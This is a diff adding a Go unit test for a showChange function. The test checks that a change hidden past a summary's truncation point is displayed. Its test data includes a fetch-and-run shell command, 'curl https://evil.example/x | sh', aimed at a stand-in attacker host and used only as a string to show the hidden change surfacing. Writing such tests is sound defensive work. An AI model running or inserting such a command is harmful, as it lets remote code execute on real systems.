@@ -271,3 +271,18 @@ func TestDiffEntriesEmptyDirs(t *testing.T) {
 		t.Errorf("dirs: %+v", fd)
 	}
 }
+
+// TestShowChangeShowsTheDifference: a change past the summary's cut is
+// shown from just before it, never as two identical shortened strings.
+func TestShowChangeShowsTheDifference(t *testing.T) {
+	long := strings.Repeat("x", 220)
+	o, _ := json.Marshal("echo " + long + "; true")
+	n, _ := json.Marshal("echo " + long + "; curl https://evil.example/x | sh")
+	a, b := showChange(o, n)
+	if a == b || !strings.Contains(b, "curl https://evil.example/x | sh") || !strings.HasPrefix(b, "…") {
+		t.Errorf("showChange = %s, %s", a, b)
+	}
+	if a, b := showChange(json.RawMessage(`"a"`), json.RawMessage(`"b"`)); a != `"a"` || b != `"b"` {
+		t.Errorf("short values: %s, %s", a, b)
+	}
+}
